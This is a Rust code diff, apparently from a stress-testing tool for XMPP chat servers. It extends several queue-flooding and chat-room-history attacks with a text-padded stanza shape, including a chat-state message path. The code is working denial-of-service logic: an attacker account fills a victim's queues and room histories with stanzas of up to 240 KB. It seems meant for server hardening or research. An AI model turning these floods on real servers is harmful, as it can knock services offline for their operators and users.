@@ -151,11 +151,16 @@ pub fn run(ctx: &Ctx, name: &str, placed: mpsc::Sender<()>) -> Result<Fields, St
 			"preauth-s2s-plain" => Ok(junk(&ex, ctx, true, false, ctx.n(50), placed).await),
 			"halfsent-one" => halfsent(&ex, ctx, 1, placed).await,
 			"halfsent-many" => halfsent(&ex, ctx, ctx.n(100), placed).await,
-			"sm-noack" => flood(&ex, ctx, Victim::NoAck, placed).await,
-			"never-read" => flood(&ex, ctx, Victim::NeverRead, placed).await,
-			"csi" => flood(&ex, ctx, Victim::Inactive, placed).await,
-			"muc-history" => rooms(ctx, 4, false, placed).await,
-			"rooms-restart" => rooms(ctx, 3, true, placed).await,
+			"sm-noack" => flood(&ex, ctx, Victim::NoAck, Shape::Elements, placed).await,
+			"never-read" => flood(&ex, ctx, Victim::NeverRead, Shape::Elements, placed).await,
+			"csi" => flood(&ex, ctx, Victim::Inactive, Shape::Elements, placed).await,
+			"muc-history" => rooms(ctx, 4, false, Shape::Elements, placed).await,
+			"rooms-restart" => rooms(ctx, 3, true, Shape::Elements, placed).await,
+			"sm-noack-text" => flood(&ex, ctx, Victim::NoAck, Shape::Text, placed).await,
+			"never-read-text" => flood(&ex, ctx, Victim::NeverRead, Shape::Text, placed).await,
+			"csi-text" => flood(&ex, ctx, Victim::Inactive, Shape::Text, placed).await,
+			"muc-history-text" => rooms(ctx, 4, false, Shape::Text, placed).await,
+			"rooms-restart-text" => rooms(ctx, 3, true, Shape::Text, placed).await,
 			other => Err(format!("unknown attack {other}")),
 		}
 	}))
@@ -361,6 +366,25 @@ async fn halfsent<'a>(ex: &LocalExecutor<'a>, ctx: &'a Ctx, n: usize, placed: im
 	Ok(fields)
 }
 
+/// What the big stanzas of the queue attacks are made of.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Shape {
+	/// Mostly small elements (`<a/>`): what costs a server most that keeps
+	/// stanzas as trees, and what a server may refuse to parse.
+	Elements,
+	/// Text: what every server takes, so the queues themselves are tried.
+	Text,
+}
+
+impl Shape {
+	fn elements(self, ctx: &Ctx) -> usize {
+		match self {
+			Shape::Elements => max_elements(ctx),
+			Shape::Text => 0,
+		}
+	}
+}
+
 /// What the victim of a flood does.
 #[derive(Clone, Copy, PartialEq)]
 enum Victim {
@@ -458,7 +482,7 @@ async fn subscribe(from: &mut Session, to: &mut Session) -> Result<(), String> {
 
 /// Attacks 4, 5 and 7: a victim session, and an attacker account sending it
 /// large stanzas: messages (240 KB) or, for CSI, presence updates (200 KB).
-async fn flood<'a>(ex: &LocalExecutor<'a>, ctx: &'a Ctx, kind: Victim, placed: impl FnOnce()) -> Result<Fields, String> {
+async fn flood<'a>(ex: &LocalExecutor<'a>, ctx: &'a Ctx, kind: Victim, shape: Shape, placed: impl FnOnce()) -> Result<Fields, String> {
 	let t = &ctx.target;
 	let mut fields = Fields::new();
 	let mut victim = login(t, VICTIM).await.map_err(|e| format!("victim login: {e}"))?;
@@ -515,9 +539,18 @@ async fn flood<'a>(ex: &LocalExecutor<'a>, ctx: &'a Ctx, kind: Victim, placed: i
 		victim.close().await;
 		(got, end)
 	});
-	let (total, elements) = (fit(ctx.limits.c2s_stanza, if kind == Victim::Inactive { 200_000 } else { 240_000 }), max_elements(ctx));
+	let (total, elements) = (fit(ctx.limits.c2s_stanza, if kind == Victim::Inactive { 200_000 } else { 240_000 }), shape.elements(ctx));
 	let stanza = move |i: usize| {
-		if kind == Victim::Inactive {
+		if kind == Victim::Inactive && shape == Shape::Text {
+			// Chat states wait for an inactive client (a presence is
+			// replaced by the next one from the same sender).
+			stuffed(
+				&format!("<message type='chat' to='{victim_jid}' id='f{i}'><composing xmlns='http://jabber.org/protocol/chatstates'>"),
+				"</composing></message>",
+				total,
+				0,
+			)
+		} else if kind == Victim::Inactive {
 			stuffed(&format!("<presence id='f{i}'><status>{i}</status><x xmlns='{PAD_NS}'>"), "</x></presence>", total, elements)
 		} else {
 			stuffed(
@@ -565,7 +598,7 @@ fn room_jid(t: &Target, i: usize) -> String {
 
 /// Attacks 6 and 8: the attacker makes `n` rooms (persistent ones for 8) and
 /// sends 20 x 240 KB messages to each, which stay as the room's history.
-async fn rooms(ctx: &Ctx, n: usize, persistent: bool, placed: impl FnOnce()) -> Result<Fields, String> {
+async fn rooms(ctx: &Ctx, n: usize, persistent: bool, shape: Shape, placed: impl FnOnce()) -> Result<Fields, String> {
 	let t = &ctx.target;
 	let mut fields = Fields::new();
 	let mut a = login(t, ATTACKER).await.map_err(|e| format!("attacker login: {e}"))?;
@@ -591,7 +624,7 @@ async fn rooms(ctx: &Ctx, n: usize, persistent: bool, placed: impl FnOnce()) -> 
 		}
 	}
 	let per_room = ctx.n(20);
-	let (total, elements) = (fit(ctx.limits.c2s_stanza, 240_000), max_elements(ctx));
+	let (total, elements) = (fit(ctx.limits.c2s_stanza, 240_000), shape.elements(ctx));
 	let stanza = |i: usize, k: usize| {
 		let head = format!("<message type='groupchat' to='{}' id='r{i}-{k}'><body>{k}</body><x xmlns='{PAD_NS}'>", room_jid(t, i));
 		stuffed(&head, "</x></message>", total, elements)
